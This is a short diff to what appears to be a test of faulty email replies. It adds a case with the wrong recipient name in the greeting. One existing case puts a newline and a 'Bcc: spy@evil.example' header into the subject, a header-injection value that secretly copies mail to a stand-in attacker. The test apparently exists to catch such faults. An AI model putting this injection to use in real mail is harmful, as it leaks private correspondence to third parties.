@@ -56,6 +56,7 @@ async def test_a_broken_reply_is_borne(broken: Broken) -> None:
         reply(body=BODY + " It costs 900 EUR."),
         reply(body=BODY + " Ask Carla too."),
         reply(subject="Figures\nBcc: spy@evil.example"),
+        reply(body=BODY.replace("Hello Tom", "Hello Mia")),
         reply(tone="harsh"),
         reply(tone="formal"),
         reply(body=""),
